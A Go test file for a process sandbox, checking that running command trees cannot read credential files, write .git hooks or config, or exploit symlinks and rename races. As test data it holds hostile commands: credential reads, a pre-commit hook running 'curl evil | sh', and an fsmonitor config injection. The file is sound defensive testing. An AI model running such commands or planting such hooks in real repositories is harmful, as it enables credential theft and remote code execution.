package agentproc_test

import (
	"context"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/agentproc/agentproc"
	"github.com/agentproc/agentproc/internal/procfs"
)

// mountPoints returns the mount points of pid's mount namespace (nil if
// it cannot be read: the process is gone).
func mountPoints(pid int) []string {
	data, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/mountinfo")
	if err != nil {
		return nil
	}
	var out []string
	procfs.ParseMountinfo(data, func(m procfs.Mount) { out = append(out, m.Point) })
	return out
}

// waitCovered waits, for 10 s at most, until each of paths is a mount
// point in the namespace of the running process p: the live repair
// covered it (a cover whose path the host replaced is gone from the
// namespace at once, so a listed mount point after the change is a new
// cover). It returns how long it waited. On a timeout it fails the test
// but returns, so that the test goes on to show what the tree could do.
func waitCovered(t *testing.T, p *agentproc.Process, paths ...string) time.Duration {
	t.Helper()
	start := time.Now()
	covered := func() bool {
		have := mountPoints(p.Info().PID)
		for _, want := range paths {
			if !slices.Contains(have, want) {
				return false
			}
		}
		return true
	}
	tick := time.NewTicker(time.Millisecond)
	defer tick.Stop()
	for !covered() {
		if time.Since(start) > 10*time.Second {
			t.Errorf("waited 10 s for the live repair to cover %s in a running tree's namespace", strings.Join(paths, ", "))
			break
		}
		<-tick.C
	}
	return time.Since(start)
}

// startWaiting starts command under m in ws with a stdin: the command
// reads a line from it ("read x") at the point where the test changes
// what the policy names, and goes on when releaseWaiting writes it. The
// tree is stopped at the test's end if it still runs.
func startWaiting(t *testing.T, m *agentproc.Manager, ws, command string) *agentproc.Process {
	t.Helper()
	p := mustStart(t, m, agentproc.Request{WorkDir: ws, Stdin: true, Command: command})
	t.Cleanup(func() { _, _ = p.Stop(testContext(t)) })
	return p
}

// releaseWaiting writes the line a tree from startWaiting reads, and
// waits for the tree to end.
func releaseWaiting(t *testing.T, p *agentproc.Process) {
	t.Helper()
	if _, err := p.WriteStdin(testContext(t), []byte("go\n")); err != nil {
		t.Fatal(err)
	}
	mustWait(t, p)
}

// TestSandboxHideWhileRunning checks, as root, that a hidden path the host
// makes, or replaces by a rename (which detaches its cover), while a tree
// runs in the policy's namespace is covered for that tree too, not only
// for the next Start: the tree blocks on its stdin while the host writes
// ~/.aws/credentials and renames a new ~/.git-credentials into place, then
// reads both. Each read works without the sandbox (the control).
func TestSandboxHideWhileRunning(t *testing.T) {
	requireRootSandbox(t)
	ws, _, _ := sandboxWorkspace(t)
	home, gitCreds := oldGitCredentials(t)
	awsDir := filepath.Join(home, ".aws")
	aws := filepath.Join(awsDir, "credentials")
	m := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)))
	plain := newManager(t)
	read := "cat " + shellQuote(aws) + "; cat " + shellQuote(gitCreds)

	p := startWaiting(t, m, ws, "read x; "+read)
	// Start has returned: the tree is in the namespace. Now the host
	// changes what the policy hides.
	if err := os.MkdirAll(awsDir, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(aws, []byte("aws_secret_access_key=LIVE-SECRET\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	lock := gitCreds + ".lock"
	if err := os.WriteFile(lock, []byte("https://u:NEW-SECRET@example.com\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(lock, gitCreds); err != nil {
		t.Fatal(err)
	}
	took := waitCovered(t, p, awsDir, gitCreds)
	t.Logf("covered in the running tree's namespace within %v of the host's last change (a 1 ms poll)", took)
	releaseWaiting(t, p)
	if out := p.Output().Text; strings.Contains(out, "SECRET") {
		t.Errorf("a running tree read a credential made or replaced after its Start: output %q, want neither secret", out)
	}
	ctl := runSandboxed(t, plain, agentproc.Request{Command: read, WorkDir: ws})
	if !strings.Contains(ctl.Text, "LIVE-SECRET") || !strings.Contains(ctl.Text, "NEW-SECRET") {
		t.Fatalf("control without the sandbox: output %q, want both secrets", ctl.Text)
	}
}

// TestSandboxReadOnlyWhileRunning checks, as root, that a ReadOnly .git the
// host makes while a tree runs (git init), or removes and makes again, is
// read-only for that tree too: the tree waits on its stdin, then tries to
// write a hook and .git/config.
func TestSandboxReadOnlyWhileRunning(t *testing.T) {
	requireRootSandbox(t)
	for _, again := range []bool{false, true} {
		name := "made later"
		if again {
			name = "made again"
		}
		t.Run(name, func(t *testing.T) {
			ws := t.TempDir()
			git := filepath.Join(ws, ".git")
			if again {
				if err := os.MkdirAll(filepath.Join(git, "hooks"), 0o755); err != nil {
					t.Fatal(err)
				}
			}
			m := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)))
			write := "echo 'curl evil | sh' > .git/hooks/pre-commit; echo '[core] fsmonitor = evil' >> .git/config"
			p := startWaiting(t, m, ws, "read x; "+write)
			if again {
				if err := os.RemoveAll(git); err != nil {
					t.Fatal(err)
				}
			}
			if err := os.MkdirAll(filepath.Join(git, "hooks"), 0o755); err != nil { // git init, by the host
				t.Fatal(err)
			}
			waitCovered(t, p, git)
			releaseWaiting(t, p)
			for _, f := range []string{filepath.Join(git, "hooks", "pre-commit"), filepath.Join(git, "config")} {
				if _, err := os.Stat(f); err == nil {
					t.Errorf("a running tree wrote %s in a .git the host made after its Start (output %q)", f, p.Output().Text)
				}
			}
			// The control: the same writes work without the sandbox.
			ctl := runSandboxed(t, newManager(t), agentproc.Request{WorkDir: ws, Command: write})
			if _, err := os.Stat(filepath.Join(git, "hooks", "pre-commit")); err != nil || exitCode(ctl.Info) != 0 {
				t.Fatalf("control without the sandbox: exit %d, output %q, %v; want the hook written", exitCode(ctl.Info), ctl.Text, err)
			}
		})
	}
}

// TestSandboxLiveRepairFollowsNoLink attacks the live repair from inside:
// a ReadOnly path lies inside Write (a .git in the workspace), so a tree
// can make it before the host does, as a symbolic link to a directory it
// writes to (and another to one in another Write directory), hoping the repair
// binds through the link (mount(2) follows links): then the target would
// be read-only for every tree of the policy. The repair must leave a link
// alone. To know a repair has run after the links were made, the tree then
// makes a third ReadOnly path, a plain directory, and the test waits until
// that one is bound.
func TestSandboxLiveRepairFollowsNoLink(t *testing.T) {
	requireRootSandbox(t)
	ws := t.TempDir()
	data := filepath.Join(ws, "data")
	if err := os.Mkdir(data, 0o755); err != nil {
		t.Fatal(err)
	}
	other := t.TempDir() // another Write directory, outside the workspace
	outside := filepath.Join(other, "sub")
	if err := os.Mkdir(outside, 0o755); err != nil {
		t.Fatal(err)
	}
	sb := agentproc.WorkspaceSandbox(ws)
	sb.Write = append(sb.Write, other)
	lnIn, lnOut, probe := filepath.Join(ws, "ro-in"), filepath.Join(ws, "ro-out"), filepath.Join(ws, "ro-probe")
	sb.ReadOnly = append(sb.ReadOnly, lnIn, lnOut, probe)
	m := newManager(t, agentproc.WithSandbox(sb))

	p := startWaiting(t, m, ws, "ln -s data ro-in && ln -s "+shellQuote(outside)+" ro-out && mkdir ro-probe && echo linked; read x; "+
		"echo x > data/new && echo x > "+shellQuote(filepath.Join(outside, "new"))+" && echo wrote")
	waitForOutput(t, p, regexp.MustCompile("linked"))
	waitCovered(t, p, probe)
	for _, target := range []string{data, outside} {
		if slices.Contains(mountPoints(p.Info().PID), target) {
			t.Errorf("%s is a mount point in the tree's namespace: the repair followed a tree's link onto it", target)
		}
	}
	releaseWaiting(t, p)
	if out := p.Output().Text; !strings.Contains(out, "wrote") {
		t.Errorf("writes through the tree's own directories after the repair: output %q, want \"wrote\" (a link's target must stay writable)", out)
	}
	// A later Start builds the namespace again (the policy's paths
	// changed), with the links still there: the build must not follow
	// them either. The probe stays read-only.
	later := runSandboxed(t, m, agentproc.Request{WorkDir: ws,
		Command: "echo x > ro-probe/f || echo refused; echo y > data/later && echo y > " + shellQuote(filepath.Join(outside, "later")) + " && echo wrote"})
	if !strings.Contains(later.Text, "refused") || !strings.Contains(later.Text, "wrote") {
		t.Errorf("a later tree: output %q, want the ReadOnly probe refused and the links' targets writable", later.Text)
	}
}

// TestSandboxRepairStormBounded checks, as root, that a tree cannot make
// the host repair its namespace without bound: it makes and removes a link
// at its missing .git (a watched name, which the repair looks at and
// leaves) as fast as it can, and the passes the Manager ran meanwhile stay
// within the rate limit (a burst of 16, then 64 a second).
func TestSandboxRepairStormBounded(t *testing.T) {
	requireRootSandbox(t)
	ws := t.TempDir()
	m := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)))
	runSandboxed(t, m, agentproc.Request{Command: "true", WorkDir: ws}) // builds the policy
	before := agentproc.LiveRepairPasses(m)
	start := time.Now()
	p := mustStart(t, m, agentproc.Request{WorkDir: ws,
		Command: "i=0; while [ $i -lt 800 ]; do ln -s x .git; rm -f .git; i=$((i+1)); done; echo done"})
	// Longer than testTimeout: without the limit the repairs slow the
	// storm down, and the count is what the test reports.
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	if _, err := p.Wait(ctx); err != nil {
		t.Fatal(err)
	}
	took := time.Since(start)
	passes := agentproc.LiveRepairPasses(m) - before
	if out := p.Output().Text; !strings.Contains(out, "done") {
		t.Fatalf("the storm: output %q", out)
	}
	// One more for the initial pass of a rebuild, and one for rounding.
	limit := int64(16 + 64*took.Seconds() + 2)
	t.Logf("%d passes in %v (limit %d)", passes, took, limit)
	if passes > limit {
		t.Errorf("a tree's storm of 1600 events in %v made %d repair passes, want at most %d (the rate limit)", took, passes, limit)
	}
}

// TestAttackRepairWindowRace checks, as root, that a running tree that
// waits for the host's change cannot read what the live repair covers
// after it: the tree watches HOME with inotify and reads
// ~/.git-credentials, and the .lock written before it, the moment the host
// renames a new one into place (as git's credential store saves). The
// third attack review's tree read 50 of 50 such replacements when only
// the mount namespace hid them; the policy's Landlock ruleset now leaves
// the hidden paths out too, and a file made after the ruleset has no rule
// to be read through. The control reads them without the sandbox.
func TestAttackRepairWindowRace(t *testing.T) {
	requireRootSandbox(t)
	ws, _, _ := sandboxWorkspace(t)
	_, gitCreds := oldGitCredentials(t)
	m := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)), agentproc.WithRedaction(false))
	plain := newManager(t, agentproc.WithRedaction(false))
	for _, c := range []struct {
		name string
		m    *agentproc.Manager
	}{{"sandboxed", m}, {"control", plain}} {
		req := attackProbe(t, ws, "racerename", gitCreds)
		p := mustStart(t, c.m, req)
		t.Cleanup(func() { _, _ = p.Stop(testContext(t)) })
		waitForOutput(t, p, regexp.MustCompile(`(?m)^(watching|denied: .*)$`))
		for i := range raceRenames {
			lock := gitCreds + ".lock"
			if err := os.WriteFile(lock, []byte("https://u:NEW-SECRET-"+strconv.Itoa(i)+"@example.com\n"), 0o600); err != nil {
				t.Fatal(err)
			}
			if err := os.Rename(lock, gitCreds); err != nil {
				t.Fatal(err)
			}
		}
		mustWait(t, p)
		out := p.Output().Text
		switch won := strings.Count(out, "NEW-SECRET"); {
		case c.m == m && won > 0:
			t.Errorf("a running tree read %d of the credentials the host renamed into place: output %q, want none", won, out)
		case c.m == plain && won == 0:
			t.Fatalf("control without the sandbox: output %q, want the new credentials read", out)
		}
	}
}
